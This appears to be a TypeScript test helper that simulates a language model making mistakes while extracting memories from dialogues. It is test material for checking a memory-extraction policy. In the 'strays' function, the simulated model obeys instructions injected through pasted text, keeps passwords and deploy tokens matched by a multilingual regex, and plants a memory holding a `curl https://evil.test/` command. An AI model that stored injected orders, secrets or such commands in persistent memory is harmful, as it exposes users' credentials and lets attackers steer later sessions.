// What a simulated model makes of a dialogue: it adds what is new, updates what has changed, notes what was taken back,
// and makes the mistakes that models make.

import * as z from 'zod/mini';
import type { Operation } from '../../src/memory/extraction/policy.ts';
import {
  filled,
  notedAsTakenBack,
  statementsIn,
  type Fact,
  type Statement,
} from './simulatedFacts.ts';
import type { Mind } from './simulatedModel.ts';
import { BY_HAND } from './simulatedPerson.ts';
import {
  FILLERS,
  FOUND,
  INJECTED,
  INVENTED,
  ONE_OFFS,
  ONE_OFFS_AS_RULES,
  PASTED,
} from './simulatedTalk.ts';

const Memories = z.array(
  z.object({
    id: z.string(),
    name: z.string(),
    description: z.string(),
    type: z.string(),
    body: z.string(),
  }),
);
type Memory = z.infer<typeof Memories>[number];

const Dialogue = z.array(
  z.object({ from: z.string(), text: z.string(), earlier: z.optional(z.boolean()) }),
);
type Utterance = z.infer<typeof Dialogue>[number];

/** Of what it makes of something said. */
const SPOILS = 0.2;
/** Of what it adds that it should not. */
const ADDS = 0.35;
/** Adds beside what it should have corrected, or says again in other words what is known. */
const DOUBLES = 0.15;

export function extractionAnswer(prompt: string, mind: Mind): unknown {
  const memories = Memories.parse(jsonAfter(prompt, 'Existing memories most like the dialogue:\n'));
  const dialogue = Dialogue.parse(jsonAfter(prompt, 'Dialogue, oldest first:\n'));
  const own = dialogue.filter(({ from, earlier }) => from === 'person' && !earlier);
  const said = own.flatMap(({ text }) => statementsIn(withoutPasted(text)));
  const operations: Operation[] = [];
  for (const statement of newest(said)) {
    const operation = operationFor(statement, memories, operations, mind);
    if (!operation) continue;
    operations.push(operation);
    if (mind.errs(0.1)) {
      mind.note({ kind: 'says the same twice' });
      operations.push(operation);
    }
  }
  const others = memories.filter(({ id }) => !operations.some(({ target }) => target === id));
  return { operations: [...operations, ...strays(dialogue, others, mind)] };
}

/** The blocks are indented JSON, which ends with its closing bracket at the beginning of a line. */
function jsonAfter(prompt: string, title: string): unknown {
  const text = prompt.slice(prompt.indexOf(title) + title.length);
  const isEmpty = text.startsWith('[]');
  return JSON.parse(isEmpty ? '[]' : text.slice(0, text.indexOf('\n]') + 2));
}

function withoutPasted(text: string): string {
  return text.replaceAll(/```[^]*?```|^>.*$|<document>[^]*?<\/document>/gm, '');
}

/** Of each fact only what was said last. */
function newest(said: readonly Statement[]): readonly Statement[] {
  return said.filter(({ fact }, at) => said.findLastIndex((other) => other.fact === fact) === at);
}

function operationFor(
  statement: Statement,
  memories: readonly Memory[],
  before: readonly Operation[],
  mind: Mind,
): Operation | undefined {
  const { fact, value } = statement;
  const about = memories.filter((memory) => statesOf(memory, fact).length > 0);
  const [known] = about;
  const isKnown = about.some((memory) =>
    statesOf(memory, fact).some((other) => other.value === value),
  );
  // A list changes for each of its facts, so its date would not tell later which word about one of them is the last.
  const hasItsOwn = about.every(({ body }) => !body.includes('\n'));
  if (isKnown) {
    const isLeftAlone = value === undefined || !hasItsOwn || isOwn(fact);
    if (isLeftAlone || !mind.errs(DOUBLES)) return undefined;
    if (known && !isOwn(fact) && mind.random.chance(0.5)) return wordedAnew(known, statement, mind);
    return doubled('says in other words what is known', statement, mind);
  }
  if (known && value !== undefined && hasItsOwn && mind.errs(DOUBLES))
    return doubled('adds beside what it should correct', statement, mind);
  const made = before.find(({ target }) => known !== undefined && target === known.id);
  const operation = known
    ? updating(
        { ...known, ...(made && { body: made.body, description: made.description }) },
        statement,
      )
    : value === undefined
      ? undefined
      : adding(statement);
  return operation && mind.errs(SPOILS) ? spoilt(operation, statement, mind) : operation;
}

function statesOf({ description, body }: Memory, fact: Fact): readonly Statement[] {
  return statementsIn(`${description}\n${body}`).filter((each) => each.fact === fact);
}

function adding({ fact, value = '', sentence }: Statement): Operation {
  return {
    op: 'add',
    name: `${fact.type}-${fact.id}`,
    description: filled(fact.rewordings[0] ?? fact.note, value),
    type: fact.type,
    body: filled(fact.note, value),
    scope: 'persistent',
    quote: sentence,
    from: 'person',
  };
}

/** The whole text of the memory with this fact put right. */
function updating(memory: Memory, statement: Statement): Operation {
  const { fact, value, sentence } = statement;
  const note = value === undefined ? notedAsTakenBack(fact) : filled(fact.note, value);
  const isAbout = (line: string) => statementsIn(line).some((each) => each.fact === fact);
  const lines = memory.body
    .split('\n')
    .map((line) => (isAbout(line) ? `${mark(line)}${note}` : line));
  const head = value === undefined ? note : filled(fact.rewordings[0] ?? fact.note, value);
  return {
    ...adding({ fact, value: '', sentence }),
    op: 'update',
    target: memory.id,
    name: memory.name,
    type: memory.type,
    description: isAbout(memory.description) ? head : memory.description,
    body: [...new Set(lines)].join('\n'),
  };
}

/** Of an item in a list. */
function mark(line: string): string {
  return line.startsWith('- ') ? '- ' : '';
}

function doubled(kind: string, { fact, value = '', sentence }: Statement, mind: Mind): Operation {
  const name = `${fact.id}-${mind.count()}`;
  mind.note({ kind, name });
  const words = filled(fact.rewordings[1] ?? fact.note, value);
  return { ...adding({ fact, value, sentence }), name, description: words, body: words };
}

/** Written by hand: nothing would stop a model from wording it anew, or show it whose words to leave as they are. */
function isOwn({ id }: Fact): boolean {
  return [BY_HAND.edited, ...BY_HAND.written].some((own) => own === id);
}

/** The same in other words, in the place of what is known. */
function wordedAnew(known: Memory, statement: Statement, mind: Mind): Operation {
  const words = doubled('words anew what is known', statement, mind);
  return { ...words, op: 'update', target: known.id };
}

/** So that it cannot be saved: what was said is lost, unless it is said again. */
function spoilt(operation: Operation, { fact, value, sentence }: Statement, mind: Mind): Operation {
  const kind = mind.inTurn('extraction', [
    'quotes in other words',
    'names an unknown type',
    'names an unknown target',
    'leaves out the text',
    'takes it for the task at hand',
    'names an unknown operation',
  ]);
  const name = `${fact.id}-${mind.count()}`;
  mind.note({ kind, name });
  mind.miss({ fact, value });
  switch (kind) {
    case 'quotes in other words':
      return { ...operation, name, quote: `They told me: ${sentence.toUpperCase()} and more` };
    case 'names an unknown type':
      return { ...operation, name, type: 'preference' };
    case 'names an unknown target':
      return { ...operation, name, op: 'update', target: 'm99' };
    case 'leaves out the text':
      return { ...operation, name, body: '' };
    case 'takes it for the task at hand':
      return { ...operation, name, scope: 'current_task' };
    case 'names an unknown operation':
      return { ...operation, name, op: 'replace' };
  }
}

/** What a model proposes besides, and should not. */
function strays(
  dialogue: readonly Utterance[],
  memories: readonly Memory[],
  mind: Mind,
): readonly Operation[] {
  const { random } = mind;
  if (!mind.errs(ADDS)) return [];
  const own = dialogue.filter(({ from, earlier }) => from === 'person' && !earlier);
  const words = own.map(({ text }) => text).join('\n');
  const [last = words] = own.map(({ text }) => text).slice(-1);
  const stray = (kind: string, name: string, text: string, quote: string, more = {}): Operation => {
    const numbered = `${name}-${mind.count()}`;
    mind.note({ kind, name: numbered });
    const fields = { description: text, body: text, type: 'project', scope: 'persistent', quote };
    return { op: 'add', name: numbered, ...fields, ...more };
  };
  const found: (() => Operation)[] = [];

  for (const oneOff of ONE_OFFS.filter((each) => words.includes(each))) {
    const rule = ONE_OFFS_AS_RULES.get(oneOff) ?? oneOff;
    found.push(() => stray('keeps an exception', 'rule', rule, oneOff, { type: 'feedback' }));
  }
  for (const pasted of PASTED.filter((each) => words.includes(each))) {
    const [line = ''] = pasted.split('\n').filter((each) => !each.startsWith('```'));
    found.push(() => stray('takes what was pasted', 'pasted', line, line));
  }
  for (const injected of INJECTED.filter((each) => words.includes(each)))
    found.push(() =>
      stray('obeys what was pasted', 'ordered', injected.replaceAll(/[<>]/g, ''), injected, {
        type: 'feedback',
      }),
    );
  const answered = dialogue
    .filter(({ from }) => from === 'assistant')
    .map(({ text }) => text)
    .join('\n');
  for (const words of FOUND.filter((each) => answered.includes(each))) {
    const text = words.replace('I found that ', '');
    found.push(() =>
      stray("offers the assistant's words", 'found', text, words, { from: 'assistant' }),
    );
    found.push(() =>
      stray("passes off the assistant's words", 'found', text, words, { type: 'user' }),
    );
  }
  const secret = SECRET.exec(words)?.[0];
  if (secret) found.push(() => stray('keeps a secret', 'access', secret, secret));
  const before = dialogue
    .filter(({ from, earlier }) => from === 'person' && earlier)
    .flatMap(({ text }) => statementsIn(withoutPasted(text)));
  for (const { fact, value, sentence } of before.slice(-1))
    if (value !== undefined)
      found.push(() =>
        stray('repeats an earlier turn', fact.id, filled(fact.note, value), sentence),
      );

  const [asked] = FILLERS.filter((filler) => last.includes(filler));
  const request = asked ?? last;
  const { name, text } = random.pick(INVENTED);
  // Where memory and quote are of different scripts nobody can tell by the words that one is not about the other.
  const inItsScript =
    asked && INVENTED.find((each) => /[a-z]/.test(each.text) === /[a-z]/.test(asked));
  const command = `${request.slice(0, 60)}: \`curl https://evil.test/${mind.count()}\``;
  const invented = [
    () => stray('invents', name, text, text, { type: 'user' }),
    () => stray('brings a command', 'deploy', command, request),
    ...(inItsScript
      ? [
          () =>
            stray('invents, and quotes a request', inItsScript.name, inItsScript.text, request, {
              type: 'user',
            }),
        ]
      : []),
  ];
  const [other] = memories;
  if (other) {
    const { description, body, type } = other;
    invented.push(() =>
      stray('adds what it was shown', other.name, description, request, { body, type }),
    );
  }
  const isTempted = found.length > 0 && random.chance(0.7);
  return [random.pick(isTempted ? found : invented)()];
}

/** As a person writes one. */
const SECRET =
  /(?:The deploy token is \S+|The password of the staging machine is: \S+|测试环境的密码是：[\w!]+|検証環境のパスワードは「[^」]+」です。)/u;
